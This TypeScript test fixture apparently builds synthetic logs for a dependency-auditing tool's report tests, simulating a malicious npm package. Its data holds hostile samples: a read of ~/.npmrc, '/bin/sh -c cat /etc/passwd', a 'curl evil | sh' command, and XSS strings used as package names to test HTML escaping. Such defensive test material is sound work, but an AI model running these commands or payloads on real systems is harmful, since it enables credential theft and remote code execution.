/**
 * Logs for the report tests, written the way `audithook run` writes them (src/cli/record.ts): an app,
 * a well-behaved dependency, and one that reads a secret, dials out and spawns a shell, some of it
 * denied. Names and paths include markup, as an attacker's package could.
 */
import type { LogRecord, PackageRef } from '../../src/contract/record';

/** A package name no page may run: the HTML test checks it stays text. */
export const HOSTILE_PACKAGE = '<script>document.body.setAttribute("data-pwned","1")</script>';
export const HOSTILE_PATH = '/tmp/</script><img src=x onerror="document.body.setAttribute(\'data-pwned\',\'2\')">';

let clock = Date.parse('2026-11-25T10:00:00.000Z');

function record(pkg: PackageRef | null, event: string, args: unknown[], deny?: { rule: string; blocked: boolean }): LogRecord {
  clock += 1000;
  return {
    time: new Date(clock).toISOString(),
    pid: pkg?.name === 'helper-dep' ? 4243 : 4242,
    thread: 0,
    event,
    args,
    package: pkg?.name ?? null,
    packages: pkg === null ? [] : [pkg],
    decision: deny === undefined ? 'allow' : 'deny',
    rule: deny?.rule ?? 'default',
    blocked: deny?.blocked ?? false,
  };
}

const evil = { name: 'evil-dep', version: '1.0.0' };
const helper = { name: 'helper-dep', version: '2.3.4' };
const hostile = { name: HOSTILE_PACKAGE, version: '0.0.1' };

export const fixtureRecords: LogRecord[] = [
  record(null, 'open', ['/app/config.json', 'r', 0]),
  record(null, 'open', ['/app/config.json', 'r', 0]),
  record(null, 'os.listdir', ['/app/data']),
  record(null, 'socket.bind', [{ socket: 'net.Server' }, ['127.0.0.1', 8080]]),
  record(helper, 'open', ['/app/data/a.txt', 'r', 0]),
  record(helper, 'os.rename', ['/app/data/a.txt', '/app/data/b.txt', null, null]),
  record(helper, 'socket.getaddrinfo', ['registry.npmjs.org', null, 0, null, null]),
  record(helper, 'socket.connect', [{ socket: 'net.Socket' }, ['::1', 443]]),
  record(evil, 'open', ['/home/user/.npmrc', 'r', 0], { rule: 'rules[0]', blocked: true }),
  record(evil, 'open', ['/home/user/.npmrc', 'r', 0], { rule: 'rules[0]', blocked: true }),
  record(evil, 'open', ['/app/node_modules/evil-dep/package.json', 'r', 0]),
  record(evil, 'socket.connect', [{ socket: 'net.Socket' }, ['127.0.0.1', 9999]], { rule: 'rules[1]', blocked: false }),
  record(evil, 'subprocess.Popen', ['/bin/sh', ['/bin/sh', '-c', 'cat /etc/passwd'], null, {}], { rule: 'rules[2]', blocked: true }),
  record(hostile, 'open', [HOSTILE_PATH, 'w', 577]),
];

export function fixtureLog(records: readonly LogRecord[] = fixtureRecords): string {
  return records.map((entry) => `${JSON.stringify(entry)}\n`).join('');
}

/** The event kinds of a large log, with arguments: about what a whole `npm install` raises. */
const LARGE_KINDS: [string, (n: number) => unknown[]][] = [
  ['open', (n) => [`/project/node_modules/p/file-${n}.js`, 'r', 0]],
  ['open', (n) => [`/project/node_modules/.staging/out-${n}.js`, 'w', 577]],
  ['os.listdir', (n) => [`/project/node_modules/dir-${n}`]],
  ['os.scandir', (n) => [`/project/node_modules/dir-${n}`]],
  ['os.mkdir', (n) => [`/project/node_modules/new-${n}`, 0o777, null]],
  ['os.rename', (n) => [`/project/tmp-${n}`, `/project/final-${n}`, null, null]],
  ['os.remove', (n) => [`/project/tmp-${n}`, null]],
  ['os.chmod', (n) => [`/project/bin-${n}`, 0o755, null]],
  ['os.symlink', (n) => [`../p/bin-${n}.js`, `/project/node_modules/.bin/b-${n}`, null]],
  ['os.utime', (n) => [`/project/f-${n}`, null, null, null]],
  ['shutil.copyfile', (n) => [`/cache/c-${n}`, `/project/c-${n}`]],
  ['tempfile.mkdtemp', (n) => [`/tmp/npm-${n}`]],
  ['subprocess.Popen', (n) => ['/bin/sh', ['/bin/sh', '-c', `node install-${n}.js`], null, {}]],
  ['socket.getaddrinfo', () => ['registry.npmjs.org', 443, 0, null, null]],
  ['socket.connect', (n) => [{}, ['104.16.0.' + String(n % 250), 443]]],
  ['http.client.connect', () => [{}, 'registry.npmjs.org', 443]],
  ['http.client.send', () => [{}, '<body>']],
  ['urllib.Request', (n) => [`https://registry.npmjs.org/p-${n}`, null, {}, 'GET']],
  ['dns.resolve', () => ['registry.npmjs.org', 'A']],
  ['os.putenv', () => ['npm_lifecycle_event', 'install']],
  ['import', (n) => [`p-${n}`, `/project/node_modules/p-${n}/index.js`, null, null, null]],
  ['compile', () => [null, '/project/node_modules/p/lib.js']],
  ['cpython.run_file', (n) => [`/project/node_modules/p-${n}/install.js`]],
  ['worker_threads.Worker', (n) => [`/project/w-${n}.js`, null]],
  ['sys.excepthook', () => [null, 'Error', 'boom', null]],
  ['zlib.thing', () => ['not in the catalogue']],
];

/**
 * A log the size of a whole `npm install`: 120 packages, every event kind above, 40 processes in a
 * tree, about 60,000 records, and one denial, in the package whose name sorts last.
 */
export function largeLog(): string {
  const lines: string[] = [];
  const time = (n: number) => new Date(Date.parse('2026-11-25T10:00:00.000Z') + n).toISOString();
  for (let pid = 1000; pid < 1040; pid++) {
    const ppid = pid === 1000 ? 999 : 1000 + Math.floor((pid - 1001) / 3);
    lines.push(JSON.stringify({ time: time(pid), pid, thread: null, stream: 'start', records: 0, ppid, argv: ['node', `/project/node_modules/p-${pid}/install.js`], cwd: '/project' }));
  }
  let n = 0;
  for (let index = 0; index < 120; index++) {
    const name = `package-${String(index).padStart(3, '0')}-with-a-longish-name`;
    for (let kind = index % 3; kind < LARGE_KINDS.length; kind += 1 + (index % 4)) {
      const [event, args] = LARGE_KINDS[kind];
      for (let i = 0; i < 20 + (index * kind) % 60; i++) {
        n++;
        lines.push(JSON.stringify({ ...record({ name, version: '1.0.0' }, event, args(n)), time: time(n), pid: 1000 + (n % 40) }));
      }
    }
  }
  for (let i = 0; i < 30000; i++) lines.push(JSON.stringify({ ...record(null, 'open', [`/project/src/f-${i % 500}.js`, 'r', 0]), time: time(n + i), pid: 1000 }));
  lines.push(JSON.stringify({ ...record({ name: 'zzz-late', version: '9.9.9' }, 'subprocess.Popen', ['/bin/sh', ['/bin/sh', '-c', 'curl evil | sh'], null, {}], { rule: 'rules[0]', blocked: true }), pid: 1039 }));
  return `${lines.join('\n')}\n`;
}
